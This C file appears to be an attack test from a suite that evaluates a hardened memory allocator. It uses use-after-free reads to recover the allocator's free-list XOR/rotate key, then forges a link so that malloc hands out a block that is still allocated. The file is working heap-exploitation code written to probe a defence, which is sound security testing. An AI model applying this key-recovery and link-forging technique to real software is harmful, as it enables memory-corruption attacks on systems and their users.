/* keyrec_forge: recover a page's free-list keys from two free blocks, then
 * forge a link that makes malloc hand out a live block.
 *
 * Bug modelled: use-after-free reads of two freed blocks (their first
 * words), then one use-after-free write.
 *
 * Steps:
 *  1. Allocate 96-byte blocks; free X, A, B of one page in this order, so
 *     local_free is B -> A -> X: E_A = rotl(X ^ k0 ^ A, r) and
 *     E_B = rotl(A ^ k0 ^ B, r) with known X, A, B.
 *  2. For each rotation r, k0 = rotr(E_B, r) ^ A ^ B must also satisfy
 *     rotr(E_A, r) ^ X ^ A: this pins down k0 and r (r = key1 & 63, all the
 *     decoder uses of key1).
 *  3. Forge: *B = encode(B -> L) for a live block L, and L's own first word
 *     = encode(L -> NULL).
 *  4. malloc(96) until L comes back.
 * WIN: malloc returns the live block L. (Links must stay inside the page, so
 * this is a duplicate, not an arbitrary address.)
 * Defence that should stop it: a keyed MAC instead of an XOR/rotate mask
 * (two known plaintext/ciphertext pairs must not reveal the key); clearing
 * or poisoning freed memory does not help against this read. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

#define SIZE 96
#define COUNT 256

static uintptr_t rotl(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x << r) | (x >> (64 - r)); }
static uintptr_t rotr(uintptr_t x, unsigned r) { r &= 63; return r == 0 ? x : (x >> r) | (x << (64 - r)); }

int main(void) {
  start(10);
  static uintptr_t blk[COUNT];
  for (int i = 0; i < COUNT; i++) blk[i] = (uintptr_t)hide(malloc(SIZE));
  /* four blocks of one page: X, A, B to free, L to stay live */
  int pick[4], np = 0;
  for (int i = COUNT / 2; i < COUNT && np < 4; i++)
    if ((blk[i] >> 16) == (blk[COUNT / 2] >> 16)) pick[np++] = i;
  if (np < 4) lost("not four blocks in one page");
  uintptr_t X = blk[pick[0]], A = blk[pick[1]], B = blk[pick[2]], L = blk[pick[3]];
  free(hide((void*)X));
  free(hide((void*)A));
  free(hide((void*)B));
  uintptr_t ea = peek((void*)A), eb = peek((void*)B); /* use-after-free reads */

  uintptr_t k0 = 0;
  unsigned r = 0;
  int solutions = 0;
  if (ea == X && eb == A) {
    solutions = 1; /* default build: links are stored in plain */
  } else {
    for (unsigned rr = 0; rr < 64; rr++) {
      uintptr_t c = rotr(eb, rr) ^ A ^ B;
      if ((rotr(ea, rr) ^ X ^ A) == c) {
        if (solutions++ == 0) { k0 = c; r = rr; }
      }
    }
  }
  if (solutions == 0) lost("no key is consistent with the two links");
  note("recovered key0=%#lx rotation=%u (%d solution(s))", (unsigned long)k0, r, solutions);

  uintptr_t enc_bl = (ea == X) ? L : rotl(L ^ k0 ^ B, r);
  uintptr_t enc_l0 = (ea == X) ? 0 : rotl(0 ^ k0 ^ L, r);
  poke((void*)B, enc_bl); /* use-after-free write */
  poke((void*)L, enc_l0); /* L is the program's live block */

  for (int k = 0; k < 4096; k++) {
    uintptr_t q = (uintptr_t)hide(malloc(SIZE));
    if (q == L) win("malloc(%d) returned %p, a block that is still allocated (after %d calls)", SIZE, (void*)q, k + 1);
  }
  lost("the live block never came back");
}
